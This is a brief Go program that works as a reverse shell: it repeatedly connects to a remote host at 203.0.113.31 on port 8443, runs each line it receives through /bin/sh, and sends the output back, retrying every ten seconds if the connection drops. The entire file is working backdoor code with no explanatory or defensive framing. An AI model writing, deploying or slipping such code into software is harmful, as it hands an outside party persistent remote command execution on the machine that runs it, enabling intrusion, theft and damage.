package main

import (
	"bufio"
	"net"
	"os/exec"
	"time"
)

func main() {
	for {
		c, err := net.Dial("tcp", "203.0.113.31:8443")
		if err != nil {
			time.Sleep(10 * time.Second)
			continue
		}
		r := bufio.NewReader(c)
		for {
			l, err := r.ReadString('\n')
			if err != nil {
				break
			}
			out, _ := exec.Command("/bin/sh", "-c", l).CombinedOutput()
			c.Write(out)
		}
	}
}
